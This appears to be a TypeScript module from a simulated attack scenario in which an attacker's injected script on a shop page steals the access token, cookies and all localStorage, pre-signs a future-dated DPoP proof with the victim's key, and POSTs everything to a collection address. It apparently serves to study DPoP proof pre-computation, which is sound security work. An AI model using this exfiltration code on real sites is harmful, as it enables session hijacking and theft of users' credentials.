/** Mallory's script in the shop's page makes proofs for later: the key stays where it is, what it signed does not. */
import { base64url } from 'jose'
import { headerOf, type Page } from '../browser/index.ts'
import { paths } from '../server/index.ts'
import { COLLECT } from './addresses.ts'
import type { Report } from './collect.ts'
import { everythingIn } from './injection.ts'
import { ownProof } from './proof.ts'

/** For how much later, in milliseconds: when she has closed the page. */
const LATER = 150_000

/** Takes the token along, and a proof by her key for reading her orders then (RFC 9449 §11.2). */
export async function presign(page: Page): Promise<void> {
  const token = page.localStorage.getItem('access_token')
  if (token === null) return
  const target = { method: 'GET', url: new URL(paths.orders, page.url).href }
  const hash = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(token))
  const ath = base64url.encode(new Uint8Array(hash))
  const proof = async (now: number, nonce?: string) =>
    ownProof(await page.keyPair(), {
      ...target,
      ath,
      now,
      jti: page.randomUUID(),
      ...(nonce === undefined ? {} : { nonce }),
    })
  // If the shop wants a nonce in it, it says so to whoever asks; there is none for later.
  const headers = { Authorization: `DPoP ${token}`, DPoP: await proof(page.now()) }
  const nonce = headerOf(await page.fetch(target.url, { headers }), 'DPoP-Nonce')
  const report: Report = {
    origin: page.origin,
    cookies: page.cookie,
    localStorage: everythingIn(page),
    overheard: null,
    proof: { ...target, value: await proof(page.now() + LATER, nonce) },
  }
  await page.fetch(COLLECT, { method: 'POST', mode: 'no-cors', body: JSON.stringify(report) })
}
